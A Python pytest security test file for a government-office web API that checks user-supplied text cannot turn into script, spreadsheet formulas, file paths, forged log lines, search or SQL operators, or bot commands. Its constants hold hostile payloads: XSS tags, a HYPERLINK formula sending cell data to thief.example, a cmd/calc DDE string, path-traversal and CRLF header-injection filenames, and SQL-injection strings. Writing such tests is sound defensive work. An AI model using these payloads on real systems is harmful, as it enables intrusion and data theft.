"""What strangers write stays words: in pages, tables, logs, names of files, search, and on the way to the bot."""

import csv
import io
import re
import sys
from collections.abc import Iterator
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest
from lxml import html
from openpyxl import load_workbook

from api import logs
from tests.api.conftest import BUSINESS_CODE, PASSWORD
from tests.api.ledger.test_ledger import JAYWALKERS
from tests.api.materials.test_checks import pdf
from tests.api.records.test_records import record
from tests.security.world import API, STAFF, World

MARK = "<img src=x onerror=alert(1)>"
HOSTILE = f"\"'>{MARK}</title><script>alert(2)</script>{{{{7*7}}}}"
FORMULA = '=HYPERLINK("https://thief.example/?"&A1,"点我")'
FORMULAS = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "＝1+1")
BEGINNINGS = tuple("=+-@\t\r＝＋－＠")
NAMES = (
    "../../../etc/passwd.pdf",
    "..\\..\\windows\\win.pdf",
    "a\r\nSet-Cookie: stolen=1.pdf",
    'a"; filename=evil.html; x=".pdf',
    "invoice\u202efdp.exe.pdf",
    f"{MARK}.pdf",
    f"{FORMULA}.pdf",
)
INLINE = "//script[not(@src)]|//style|//@style|//base|//iframe|//object"
ORDERS = ("' OR 1=1 --", "%", "_", "*:*", "NEAR(", '"', "text:[* TO *]", "\\", "a AND (", "一" * 500)
_MOST_PAGES = 60


@pytest.fixture(scope="module")
def attacked(world: World) -> World:
    """The office after somebody wrote the same thing everywhere."""
    client, subject, clerk = world.client, world.headers("subject"), world.headers("clerk")
    for place, words in enumerate((HOSTILE, *FORMULAS)):
        entry = record(document_number=f"{words}〔2026〕{place}号"[:90], authority=words[:90], violation=words)
        client.post(f"{API}/records", json=entry, headers=clerk)
        client.post(f"{API}/reports", json={"kind": "complaint", "text": words}, headers=subject)
        remark = {"question": words, "helpful": False, "comment": words}
        client.post(f"{API}/policies/feedback", json=remark, headers=subject)
        client.post(f"{API}/chat/messages", json={"text": words}, headers=subject)
        client.get(f"{API}/records", params={"subject_code": BUSINESS_CODE, "purpose": words}, headers=clerk)
    document = f"示例市人民政府关于{HOSTILE}的通知\n示政发〔2026〕9号\n一、{HOSTILE}\n（一）{FORMULA}。\n"
    client.post(f"{API}/policies/documents", data={"text": document}, headers=world.headers("policy_editor"))
    for words in (HOSTILE, *FORMULAS, "示例\x04办法"):
        entry = JAYWALKERS | {"name": words, "summary": words}
        assert client.post(f"{API}/ledger/measures", json=entry, headers=clerk).status_code in (201, 422)
    number = world.owner.draft("repair", world.owner.has())
    client.patch(f"{API}/cases/{number}", json={"statement": HOSTILE}, headers=subject)
    for name in NAMES:
        _upload(world, number, name)
    world.look()
    return world


def _upload(world: World, number: str, name: str) -> Any:
    content = pdf() + f"\n%{name!r}".encode()
    files = {"file": (name, content, "application/pdf")}
    address = f"{API}/cases/{number}/materials"
    return world.client.post(address, data={"material": "other"}, files=files, headers=world.owner.headers)


def _console_pages(world: World, role: str) -> Iterator[tuple[str, Any]]:
    """Pages of the console, found by following its links from the first one, as somebody of this role."""
    client = world.client
    client.cookies.clear()
    body = {"username": role, "password": PASSWORD}
    assert client.post(f"{API}/auth/session", json=body).status_code == 200
    waiting, seen = ["/console"], set[str]()
    while waiting and len(seen) < _MOST_PAGES:
        path = waiting.pop(0)
        shape = re.sub(r"[0-9a-f-]{8,}|[A-Z]{2}-[0-9-]+|[0-9]+", "…", path)
        if shape in seen:
            continue
        seen.add(shape)
        answer = client.get(path)
        if not answer.headers.get("content-type", "").startswith("text/html"):
            continue
        yield path, answer
        links = html.fromstring(answer.text).xpath("//a/@href")
        waiting += [link for link in links if urlsplit(link).path.startswith("/console") and "sign-out" not in link]
    client.cookies.clear()


@pytest.mark.parametrize("role", STAFF)
def test_no_page_of_the_console_runs_what_somebody_wrote(attacked: World, role: str) -> None:
    """Protects staff: nothing written elsewhere becomes a tag, and no page has script or style of its own inline."""
    found = []
    pages = list(_console_pages(attacked, role))
    for path, answer in pages:
        assert answer.status_code < 500, path
        page = html.fromstring(answer.text)
        found += [path] if MARK in answer.text else []
        found += [
            f"{path}: {one}" for one in page.xpath("//script[not(@src)]|//style|//@style|//base|//iframe|//object")
        ]
        found += [f"{path}: {name}" for name in {a for e in page.iter() for a in e.attrib} if name.startswith("on")]
        found += [f"{path}: {link}" for link in page.xpath("//@href|//@src|//@action") if _leads_astray(link)]
    assert len(pages) > 1
    assert found == []


def _leads_astray(link: str) -> bool:
    return urlsplit(link.strip()).scheme.lower() not in ("", "https", "mailto", "tel")


def _tables(world: World) -> Iterator[tuple[str, dict[str, str]]]:
    """Every route that gives out a table, in each kind that it can be had in; new ones join by themselves."""
    for path, methods in world.app.openapi()["paths"].items():
        if "get" not in methods or "{" in path:
            continue
        for parameter in methods["get"].get("parameters", ()):
            kinds = set(parameter["schema"].get("enum", ())) & {"csv", "xlsx"}
            yield from ((path, {parameter["name"]: kind}) for kind in sorted(kinds))
        if path.endswith("/export"):
            yield path, {}


def _cells(answer: Any) -> Iterator[tuple[str, str]]:
    """Every cell, as its type and its value."""
    if answer.headers["content-type"].startswith("text/csv"):
        for line in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))):
            yield from (("csv", cell) for cell in line)
        return
    for sheet in load_workbook(io.BytesIO(answer.content)):
        yield from ((cell.data_type, str(cell.value)) for row in sheet.iter_rows() for cell in row)


def test_no_table_holds_a_formula_that_somebody_wrote(attacked: World) -> None:
    """Protects whoever opens an export: texts stay texts, whatever they begin with."""
    opened = set()
    headers = {role: attacked.headers(role) for role in STAFF}
    for path, query in _tables(attacked):
        for role in STAFF:
            answer = attacked.client.get(path, params=query | {"purpose": "核对台账"}, headers=headers[role])
            if answer.status_code != 200:
                continue
            opened.add(path)
            for type_, value in _cells(answer):
                assert type_ != "f", (path, value)
                is_number = re.fullmatch(r"-?[0-9.,%]+|-", value)
                assert type_ != "csv" or is_number or not value.startswith(BEGINNINGS), (path, value)
    assert {path for path, _ in _tables(attacked)} == opened


def test_a_name_of_a_file_is_only_a_name(attacked: World) -> None:
    """Protects the store and the browser: no folder, no second header, no turned-around letters, always a download."""
    number = attacked.owner.draft("repair", attacked.owner.has())
    for name in NAMES:
        answer = _upload(attacked, number, name)
        if answer.status_code == 422:
            continue
        assert answer.status_code == 201, (name, answer.text)
        file = answer.json()
        assert not re.search(r"[\x00-\x1f/\\\u202a-\u202e\u2066-\u2069]", file["name"]), name
        got = attacked.client.get(f"{API}/cases/{number}/files/{file['id']}", headers=attacked.owner.headers)
        said = got.headers["content-disposition"]
        assert said.startswith("attachment; filename*=UTF-8''")
        assert re.fullmatch(r"[\x20-\x7e]+", said)
        assert '"' not in said
        assert unquote(said.partition("''")[2]) == file["name"]
        assert "set-cookie" not in got.headers


@pytest.fixture(params=[False, True], ids=["lines", "json"])
def log(request: pytest.FixtureRequest) -> Iterator[io.StringIO]:
    """What is logged, in either form."""
    written = io.StringIO()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sys, "stderr", written)
        logs.configure(json=request.param)
        yield written
    logs.configure(json=False)


def test_nobody_writes_into_the_log(attacked: World, log: io.StringIO) -> None:
    """Protects those who read the log: what stands in a name, an address or a header is no part of it."""
    forged = "2026-11-21T00:00:00Z [info     ] forged"
    client = attacked.client
    client.get(f"{API}/cases/x%0d%0a{forged}")
    client.get(f"/%0a{forged}", headers={"X-Request-ID": "a b", "User-Agent": forged})
    client.post(f"{API}/auth/token", data={"username": f"x\r\n{forged}", "password": "wrong-password"})
    client.post(f"{API}/auth/session", json={"username": f"x\n{forged}", "password": "wrong-password"})
    client.post(f"{API}/chat/messages", json={"text": f"x\n{forged}"})
    _upload(attacked, attacked.owner.draft("repair", attacked.owner.has()), f"x\n{forged}.pdf")
    lines = log.getvalue().splitlines()
    assert len(lines) > 5
    assert [line for line in lines if "forged" in line] == []


@pytest.mark.parametrize("query", ORDERS)
def test_a_question_is_only_words(world: World, query: str) -> None:
    """Protects search: no sign in it is an order to the index or the database."""
    for path, name in (("search", "query"), ("answer", "question"), ("documents", "query")):
        answer = world.client.get(f"{API}/policies/{path}", params={name: query, "region": "320281"})
        assert answer.status_code in (200, 422), (path, answer.text)


def test_a_wildcard_finds_no_stranger_s_record(world: World) -> None:
    """Protects records: the code of a look-up is compared, never matched."""
    for code in ("%", "_" * 18, BUSINESS_CODE[:17] + "%", f"{BUSINESS_CODE}' OR '1'='1"):
        query = {"subject_code": code, "purpose": "办理申请"}
        answer = world.client.get(f"{API}/records", params=query, headers=world.headers("clerk"))
        assert answer.status_code in (404, 422) or answer.json()["total"] == 0


@pytest.mark.parametrize("typed", ["/request_human", '/inform{"record": "1"}', " /restart", "／restart", "/grant_case"])
def test_what_is_typed_is_never_a_command_to_the_bot(world: World, typed: str) -> None:
    """Protects conversations: only a button sends a command; a slash that somebody types is a sign like any other."""
    seen: list[dict[str, Any]] = world.bot.seen
    answer = world.client.post(f"{API}/chat/messages", json={"text": typed}, headers=world.headers("subject"))
    assert answer.status_code == 200
    assert not seen[-1]["message"].lstrip().startswith("/")
